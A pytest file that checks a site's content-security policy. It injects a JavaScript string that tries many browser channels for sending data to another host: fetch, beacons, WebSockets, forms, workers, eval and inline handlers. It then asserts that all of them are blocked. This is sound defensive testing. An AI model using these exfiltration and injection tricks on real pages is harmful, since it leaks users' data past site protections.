"""The page's content-security policy in a browser: whatever runs in the page, nothing reaches another host.

The policy stands twice, in the page and in the server's header; each must do alone.
"""

import functools
import http.server
import json
import re
import shutil
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import ClassVar

import pytest

from deploy.web.server import HEADERS, POLICY, SiteHandler
from deploy.web.site import STATIC

ATTEMPTS = """(async () => {
  const seen = window.seen = [];
  document.addEventListener("securitypolicyviolation", (event) => seen.push(event.effectiveDirective));
  const away = AWAY;
  const put = (name, fields) => document.body.append(Object.assign(document.createElement(name), fields));
  const tries = {
    fetch: () => fetch(away),
    beacon: () => navigator.sendBeacon(away, "reading"),
    request: () => { const r = new XMLHttpRequest(); r.open("POST", away); r.send("reading"); },
    socket: () => new WebSocket(away.replace("http", "ws")),
    events: () => new EventSource(away),
    image: () => { new Image().src = away + "?reading"; },
    video: () => put("video", { src: away }),
    script: () => put("script", { src: away }),
    module: () => import(away),
    frame: () => put("iframe", { src: away }),
    object: () => put("object", { data: away }),
    style: () => put("link", { rel: "stylesheet", href: away }),
    prefetch: () => put("link", { rel: "prefetch", href: away }),
    font: () => new FontFace("x", `url(${away})`).load(),
    form: () => {
      put("iframe", { name: "hole" });
      put("form", { action: away, method: "post", id: "out", target: "hole" });
      document.getElementById("out").submit();
    },
    worker: () => new Worker(URL.createObjectURL(new Blob([`fetch("${away}")`]))),
    inline: () => put("script", { textContent: "window.ran = 'inline'" }),
    handler: () => {
      put("button", { id: "pressed" });
      document.getElementById("pressed").setAttribute("onclick", "window.ran = 'handler'");
      document.getElementById("pressed").click();
    },
    link: () => { const a = document.createElement("a"); a.href = "javascript:void (window.ran = 'link')"; a.click(); },
    eval: () => { (0, eval)("window.ran = 'eval'"); },
    made: () => { new Function("window.ran = 'made'")(); },
    timer: () => setTimeout("window.ran = 'timer'"),
    base: () => put("base", { href: away }),
  };
  for (const attempt of Object.values(tries)) {
    try { await Promise.race([attempt(), new Promise((done) => setTimeout(done, 50))]); } catch { /* as it should */ }
  }
  await new Promise((done) => setTimeout(done, 500));
  return { ran: window.ran ?? null, seen: [...new Set(seen)].sort(), base: document.baseURI };
})()"""
DIRECTIVES = {"connect-src", "img-src", "media-src", "script-src-elem", "frame-src", "style-src-elem", "form-action"}
DIRECTIVES |= {"worker-src", "script-src", "script-src-attr", "base-uri", "font-src"}


class Other(http.server.BaseHTTPRequestHandler):
    """Another host: it notes who comes."""

    visits: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        self.visits.append(f"{self.command} {self.path}")
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.end_headers()

    do_POST = do_OPTIONS = do_GET

    def log_message(self, format: str, *args: object) -> None:
        """Say nothing."""


class PlainHandler(http.server.SimpleHTTPRequestHandler):
    """A host that sends no header of its own."""

    extensions_map: ClassVar[dict[str, str]] = SiteHandler.extensions_map

    def log_message(self, format: str, *args: object) -> None:
        """Say nothing."""


def running(handler) -> Iterator[str]:
    """Run a server of this machine and give its address."""
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02})
        thread.start()
        yield f"http://localhost:{server.server_port}/"
        server.shutdown()
        thread.join()


@pytest.fixture(scope="module")
def other_host() -> Iterator[str]:
    yield from running(Other)


@pytest.fixture(params=["page", "header", "neither"])
def address(request, motion_site, tmp_path) -> Iterator[str]:
    """The motion model's page with its policy in the page alone, in the header alone, or nowhere."""
    site = Path(shutil.copytree(motion_site, tmp_path / "site"))
    (site / "worker.js").unlink()  # a service worker would answer for the other pages
    if request.param != "page":
        page = site / "index.html"
        page.write_text(re.sub(r"<meta http-equiv=.Content-Security-Policy.[^>]*>", "", page.read_text()))
    handler = SiteHandler if request.param == "header" else PlainHandler
    yield from running(functools.partial(handler, directory=str(site)))


def test_nothing_that_runs_in_the_page_reaches_another_host(tab, address, other_host, request):
    tab.send("Page.navigate", url=address)
    tab.wait("document.body && document.body.dataset.ready === 'yes'")
    Other.visits.clear()
    found = tab.run(ATTEMPTS.replace("AWAY", json.dumps(other_host)))
    if "neither" in request.node.name:  # the attempts are real ones: without a policy they succeed
        assert len(Other.visits) > 5
        assert found["ran"] is not None
        return
    assert Other.visits == []
    assert found["ran"] is None
    assert found["base"] == address
    assert set(found["seen"]) >= DIRECTIVES


def test_page_and_server_say_the_same_policy():
    page = (STATIC / "index.html").read_text()
    assert re.findall(r'Content-Security-Policy" content="([^"]*)"', page) == [POLICY]
    assert HEADERS["Content-Security-Policy"] == f"{POLICY}; frame-ancestors 'none'"
    rules = dict(rule.split(" ", 1) for rule in POLICY.split("; "))
    assert rules["default-src"] == "'none'"
    assert rules["connect-src"] == "'self'"
    assert "unsafe-inline" not in POLICY
    assert "'unsafe-eval'" not in POLICY
    assert "http" not in POLICY
